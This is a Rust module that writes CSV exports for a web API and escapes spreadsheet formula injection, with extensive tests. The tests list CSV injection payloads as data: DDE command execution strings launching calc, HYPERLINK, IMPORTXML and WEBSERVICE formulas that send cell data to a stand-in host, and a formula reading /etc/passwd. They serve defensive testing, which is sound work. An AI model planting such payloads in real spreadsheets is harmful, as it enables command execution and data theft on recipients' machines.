//! Tables as CSV files, which every spreadsheet opens (RFC 4180).
//!
//! Spreadsheets treat a cell that begins with `=` as a formula, and an account may type such a cell. So it gets an
//! apostrophe in front, which makes it text (OWASP, CSV injection). A spreadsheet may also separate cells by `;` or tabs,
//! and then takes no quote within a line for the beginning of a cell: `x;=1` becomes a cell with `=1`, and a new line
//! within a cell begins a row. So what follows these gets an apostrophe too.

use std::borrow::Cow;
use std::iter;
use std::sync::LazyLock;

use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};
use regex::Regex;
use unicode_normalization::UnicodeNormalization as _;

use crate::error::ApiError;

/// The byte order mark, by which spreadsheets recognise UTF-8.
pub const BYTE_ORDER_MARK: char = '\u{feff}';

/// The first visible characters for which a spreadsheet takes a cell for a formula.
const FORMULA_STARTS: [char; 4] = ['=', '+', '-', '@'];
/// Characters that some spreadsheets take for the end of a cell, so that a formula may follow.
const CELL_BREAKS: [char; 4] = ['\t', '\r', '\n', ';'];
/// Characters of a call, or of a cell in another sheet.
const CALLS: [char; 3] = ['(', '|', '!'];
/// Characters between the operands of a sum.
const OPERATORS: [char; 11] = ['+', '-', '*', '/', '^', '&', '=', '<', '>', '%', '@'];

/// A file that is being written, row by row.
pub struct CsvWriter {
    text: String,
    columns: usize,
}

/// A file with its name.
pub struct CsvFile {
    /// The file's name, such as `activities-2026-11-23.csv`: only letters, digits, `-` and `.`.
    pub name: String,
    /// The contents of the file.
    pub bytes: Vec<u8>,
}

impl CsvWriter {
    /// A file whose first row contains the names of the columns.
    pub fn new(columns: &[&str]) -> Result<Self, ApiError> {
        let mut sheet = Self { text: String::from(BYTE_ORDER_MARK), columns: columns.len() };
        sheet.write_row(columns)?;
        Ok(sheet)
    }

    /// Adds a row, which must have one cell for each column.
    ///
    /// # Errors
    /// When the row has more or fewer cells than the rows before it.
    pub fn write_row(&mut self, cells: &[&str]) -> Result<(), ApiError> {
        if cells.len() != self.columns {
            let fault = format!("{} cells in a table of {} columns", cells.len(), self.columns);
            return Err(ApiError::internal(fault));
        }
        write_row(&mut self.text, cells.iter().map(|cell| escape_formula(cell)));
        Ok(())
    }

    /// Completes the file.
    pub fn finish(self, name: String) -> Result<CsvFile, ApiError> {
        let bytes = self.text.into_bytes();
        Ok(CsvFile { name, bytes })
    }
}

/// Adds a row. Cells in which anybody may see a separator or the end of a row are in quotes.
pub fn write_row(text: &mut String, cells: impl IntoIterator<Item = String>) {
    let start = text.len();
    let mut count = 0;
    for cell in cells {
        if count > 0 {
            text.push(',');
        }
        count += 1;
        if cell.contains(['"', ',']) || cell.contains(CELL_BREAKS) {
            text.push('"');
            text.push_str(&cell.replace('"', "\"\""));
            text.push('"');
        } else {
            text.push_str(&cell);
        }
    }
    if count == 1 && text.len() == start {
        // An empty line would be no row.
        text.push_str("\"\"");
    }
    text.push_str("\r\n");
}

/// A cell that no spreadsheet takes for a formula: one that begins like a formula gets an apostrophe in front, which
/// makes it text. A negative number is no formula and can be summed; a telephone number with `+` gets an apostrophe. So
/// does what could become a cell of its own and calculates something.
#[must_use]
pub fn escape_formula(cell: &str) -> String {
    let mut text = String::with_capacity(cell.len() + 1);
    if is_formula(cell) {
        text.push('\'');
    }
    for (at, part) in cell.split_inclusive(CELL_BREAKS).enumerate() {
        if at > 0 && is_formula_within(part) {
            text.push('\'');
        }
        text.push_str(part);
    }
    text
}

/// The cell from which [`escape_formula`] made this one; this one if it made none.
#[must_use]
pub fn as_typed(cell: &str) -> Cow<'_, str> {
    if !cell.contains('\'') {
        return Cow::Borrowed(cell);
    }
    let without = |(at, part): (usize, &str)| -> String {
        match part.strip_prefix('\'') {
            Some(rest) if at == 0 || is_formula_within(rest) => rest.to_owned(),
            _ => part.to_owned(),
        }
    };
    let parts = cell.split_inclusive(CELL_BREAKS).enumerate();
    let typed: String = parts.map(without).collect();
    match escape_formula(&typed) == cell {
        true => Cow::Owned(typed),
        false => Cow::Borrowed(cell),
    }
}

fn is_formula(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or_default();
    let is_number = !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    let is_formula = first_visible(cell).is_some_and(|first| FORMULA_STARTS.contains(&first));
    !is_number && (is_formula || cell.starts_with(['\t', '\r', '\n']))
}

/// Whether this part of a cell calculates something if it is a cell of its own.
fn is_formula_within(part: &str) -> bool {
    match first_visible(part) {
        Some('=' | '@') => true,
        Some('+' | '-') => part.contains(CALLS) || is_in_another_file(part) || is_sum_of_cells(part),
        _ => false,
    }
}

/// Whether this part reads a cell of another file, which LibreOffice writes as `'file:///x.ods'#$Sheet1.A1`.
fn is_in_another_file(part: &str) -> bool {
    part.contains("'#") || part.contains("#$")
}

/// Whether this part calculates with cells of the sheet, such as `-A1*2`. A negative number doesn't, nor does a line of
/// a list, such as `- M10 bolts`.
fn is_sum_of_cells(part: &str) -> bool {
    let visible = part.nfkc().filter(|c| c.is_whitespace() || is_visible(*c));
    let plain: String = visible.collect();
    // Every second piece is within quotation marks, and so a text.
    let operands = plain.split('"').step_by(2).flat_map(|piece| {
        piece.split(|c: char| OPERATORS.contains(&c) || CELL_BREAKS.contains(&c) || c.is_whitespace())
    });
    let mut has_cell = false;
    for operand in operands.filter(|operand| !operand.is_empty()) {
        let is_number = is_number(operand);
        if !is_number && !is_cell_reference(operand) {
            return false;
        }
        has_cell |= !is_number;
    }
    has_cell
}

/// Whether an operand is a number, such as `2`, `2.5`, `2,5` or `1e5`.
fn is_number(operand: &str) -> bool {
    let plain = operand.replace(',', ".");
    let is_plain = plain.chars().all(|c| c.is_ascii_digit() || c == '.');
    is_plain || plain.starts_with(|c: char| c.is_ascii_digit()) && plain.parse::<f64>().is_ok()
}

/// Whether an operand is a cell or several, such as `A1`, `$A$1`, `A1:B2`, `A1#` or `A:A`.
fn is_cell_reference(operand: &str) -> bool {
    let bare = operand.replace(['$', '#'], "");
    let split = |end: &str| {
        let digits = end.trim_start_matches(|c: char| c.is_ascii_alphabetic());
        (end.len() - digits.len(), digits.len(), digits.bytes().all(|byte| byte.is_ascii_digit()))
    };
    let is_range = bare.contains(':');
    bare.split(':').map(split).all(|(letters, digits, are_digits)| {
        (1..=3).contains(&letters) && are_digits && digits <= 7 && (is_range || digits > 0)
    })
}

/// The first visible character of a cell, in its compatibility form: a spreadsheet ignores spaces and characters
/// without width, and takes a full-width '＝' for a '='.
fn first_visible(cell: &str) -> Option<char> {
    let first = cell.chars().find(|c| !c.is_whitespace() && is_visible(*c))?;
    iter::once(first).nfkc().next()
}

/// A character that is certainly visible. Unicode doesn't say it of each: among its letters are fillers, which it calls
/// ignorable, and among its other symbols blank ones, such as the Braille pattern without dots. So of those only
/// pictures count.
static VISIBLE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"[[\p{L}\p{N}\p{P}\p{Sm}\p{Sc}\p{Sk}\p{Extended_Pictographic}]--\p{Default_Ignorable_Code_Point}]",
    )
    .expect("a class of characters")
});

fn is_visible(c: char) -> bool {
    c.is_ascii_graphic() || VISIBLE.is_match(c.encode_utf8(&mut [0; 4]))
}

impl IntoResponse for CsvFile {
    fn into_response(self) -> Response {
        let displayed = format!("attachment; filename=\"{}\"", self.name);
        let mut response = self.bytes.into_response();
        let headers = response.headers_mut();
        for (name, value) in
            [(header::CONTENT_TYPE, "text/csv; charset=utf-8"), (header::CACHE_CONTROL, "private, no-cache")]
        {
            headers.insert(name, HeaderValue::from_static(value));
        }
        if let Ok(header_value) = HeaderValue::from_str(&displayed) {
            headers.insert(header::CONTENT_DISPOSITION, header_value);
        }
        response
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn writes_typed_text_unchanged_and_escapes_formulas() {
        let rows = [
            ["Mo, \"the\" plumber", "two\nlines", "ünïcödé €"],
            ["=HYPERLINK(\"http://x\")", "+44 113 496", "@SUM(A1)"],
            ["-12.50", "-x", "\tx"],
            ["", "+447700900123", "'quoted"],
        ];
        let mut sheet = CsvWriter::new(&["Name", "Text", "More"]).expect("a sheet");
        for row in &rows {
            sheet.write_row(row).expect("a row");
        }
        let file = sheet.finish("a.csv".to_owned()).expect("a file");
        let text = String::from_utf8(file.bytes).expect("UTF-8");
        let text = text.strip_prefix('\u{feff}').expect("a mark");
        assert!(text.starts_with("Name,Text,More\r\n"));
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let read: Vec<Vec<String>> = reader.deserialize().collect::<Result<_, _>>().expect("readable");
        assert_eq!(read[0], rows[0]);
        assert_eq!(read[1], ["'=HYPERLINK(\"http://x\")", "'+44 113 496", "'@SUM(A1)"]);
        // Numbers remain numbers, so that a column can be summed.
        assert_eq!(read[2], ["-12.50", "'-x", "'\tx"]);
        assert_eq!(read[3], ["", "'+447700900123", "'quoted"]);
    }

    #[test]
    fn escapes_a_formula_after_invisible_or_full_width_characters() {
        for cell in ["\u{feff}=1+1", "\u{200b}=1+1", "＝1+1", "\u{2060} ＠SUM(A1)", "\u{a0}+1", "\u{200b}－1"]
        {
            assert_eq!(escape_formula(cell), format!("'{cell}"));
        }
        for cell in
            ["1=1", "a-b", "-3", "", " x", "“=1”", "☎ +44 113 496 0000", "🔧 - 2 taps", "£-5", "→ =x", "é=1"]
        {
            assert_eq!(escape_formula(cell), cell);
        }
    }

    #[test]
    fn escapes_a_formula_after_a_character_of_any_kind_that_is_not_visible() {
        for (kind, blank) in [
            ("a Braille pattern without dots", '\u{2800}'),
            ("a musical symbol without a head", '\u{1D159}'),
            ("the place of an object", '\u{FFFC}'),
            ("a Hangul filler", '\u{3164}'),
            ("a narrow Hangul filler", '\u{FFA0}'),
            ("a filler of a first Hangul letter", '\u{115F}'),
            ("a Khmer vowel that isn't written", '\u{17B4}'),
            ("a Mongolian separator", '\u{180E}'),
            ("a soft hyphen", '\u{AD}'),
            ("a joiner of words", '\u{2060}'),
            ("a joiner of graphemes", '\u{34F}'),
            ("a choice between two forms", '\u{FE0F}'),
            ("a remark on the text", '\u{FFF9}'),
            ("a tag", '\u{E0041}'),
            ("a direction", '\u{2067}'),
            ("a line separator", '\u{2028}'),
            ("an Ogham space", '\u{1680}'),
            ("a character for private use", '\u{E000}'),
            ("one that Unicode hasn't assigned", '\u{378}'),
            ("an accent without a letter", '\u{301}'),
        ] {
            for sign in ['=', '+', '-', '@'] {
                for cell in [format!("{blank}{sign}A1"), format!(" {blank}\u{200b}{blank} {sign}A1")] {
                    assert_eq!(escape_formula(&cell), format!("'{cell}"), "{kind}");
                    assert_eq!(as_typed(&format!("'{cell}")), cell, "{kind}");
                }
            }
            let within = format!("x;{blank}=A1");
            assert_eq!(escape_formula(&within), format!("x;'{blank}=A1"), "{kind}");
        }
    }

    #[test]
    fn escapes_formulas_after_separators_within_a_cell() {
        for (cell, expected) in [
            ("x;=1+1", "x;'=1+1"),
            ("x\t=1+1", "x\t'=1+1"),
            ("x\r\n=1+1", "x\r\n'=1+1"),
            ("\n=1", "'\n'=1"),
            ("x; \u{200b}＝1", "x;' \u{200b}＝1"),
            ("\";@SUM(A1)", "\";'@SUM(A1)"),
            ("x;+cmd|' /C calc'!A0", "x;'+cmd|' /C calc'!A0"),
            ("x\n-HYPERLINK(A1)", "x\n'-HYPERLINK(A1)"),
            ("a;=1;=2", "a;'=1;'=2"),
            ("x;+A1*2", "x;'+A1*2"),
            ("x;-A1", "x;'-A1"),
            ("x\t-A1", "x\t'-A1"),
            ("x\n+A1&B1\ny", "x\n'+A1&B1\ny"),
            ("x;- $a$1 + 2;y", "x;'- $a$1 + 2;y"),
            ("x;+A1&\"two words\"", "x;'+A1&\"two words\""),
            ("x;-A1:B2", "x;'-A1:B2"),
            ("x;+A:A", "x;'+A:A"),
            ("x;－Ａ\u{200b}１", "x;'－Ａ\u{200b}１"),
        ] {
            assert_eq!(escape_formula(cell), expected);
            assert_eq!(as_typed(expected), cell);
        }
        // Lists, negative numbers, a telephone number and a time.
        for cell in [
            "To do:\n- tap\n- sink",
            "Parts:\n- M10 bolts\n- 2 x M8\n- M8, M10",
            "a;-5",
            "a;-5.50 + 3",
            "a; b=c",
            "a; +44 113 496 0000",
            "a;- 10:30",
        ] {
            assert_eq!(escape_formula(cell), cell);
        }
        for cell in ["'quoted", "it's;'so", "a;'b", "a;'=1;=2", ""] {
            assert_eq!(as_typed(cell), cell);
        }
        let mut text = String::new();
        let row = ["x;y", "x\ty", "x\ry", "x y", "x\"y"].map(str::to_owned);
        write_row(&mut text, row);
        assert_eq!(text, "\"x;y\",\"x\ty\",\"x\ry\",x y,\"x\"\"y\"\r\n");
        write_row(&mut text, [String::new()]);
        assert!(text.ends_with("\r\n\"\"\r\n"));
    }

    #[test]
    fn escapes_further_cells_that_resemble_formulas_and_no_ordinary_ones() {
        let first = [
            "=cmd|'/C calc'!A0",
            "+cmd|'/C calc'!A0",
            "-cmd|'/C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x.example?\"&A1,\"Pay\")",
            "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
            "=WEBSERVICE(A1)",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            " =1+1",
            "\u{a0}\u{2003}=1",
            "\u{0}=1",
            "\u{b}=1",
            "\u{1f}=1",
            "\u{202e}=1",
            "=",
            "+",
            "-",
            "@",
            "@user",
            "-1-1",
            "-12-34",
            "-- two",
            "==1",
            "+-1",
            "﹦1",
            "⁼1",
            "₌1",
            "﹢1",
            "₊1",
            "⁺1",
            "﹣1",
            "﹫SUM(A1)",
        ];
        for cell in first {
            assert_eq!(escape_formula(cell), format!("'{cell}"));
            assert_eq!(as_typed(&format!("'{cell}")), cell);
        }
        let within = [
            "'file:///etc/passwd'#$passwd.A1",
            "'file:///x.ods'#Sheet1.A1",
            "[Book1.xls]Sheet1!A1",
            "'C:\\[b.xls]S'!A1",
            "A1*1e5",
            "A1*2,5",
            "A1<>B1",
            "A1%",
            "A1#",
            "@A1",
            "A1:A",
            "$A:$A",
            "XFD1048576",
            "a1",
            "(A1)",
            "\"a\"&B2",
            "-A1",
            " B22",
        ];
        for part in within {
            for separator in [';', '\t', '\r', '\n'] {
                for sign in ['+', '-'] {
                    let cell = format!("x{separator}{sign}{part}");
                    let escaped = format!("x{separator}'{sign}{part}");
                    assert_eq!(escape_formula(&cell), escaped);
                    assert_eq!(as_typed(&escaped), cell);
                }
            }
        }
        for cell in [
            "-1",
            "-1.5",
            "-.5",
            "\"=1+1\"",
            "`=1",
            "(=1)",
            "x;- 5 m of pipe",
            "x;- 2",
            "x;-5%",
            "x;- A4 paper",
            "x;- B22 bulb",
            "x;- 10 x M8",
            "x;- item #3",
            "x;-2,5 and 1e5",
            "x\n--- line ---",
            "x\n+1 tap",
            "5 = 2 + 3",
            "sam@example.com",
            "2-3 days",
        ] {
            assert_eq!(escape_formula(cell), cell);
        }
    }

    #[test]
    fn a_row_has_as_many_cells_as_there_are_columns() {
        let mut sheet = CsvWriter::new(&["Name", "Text"]).expect("a sheet");
        assert!(sheet.write_row(&["too few"]).is_err());
    }
}
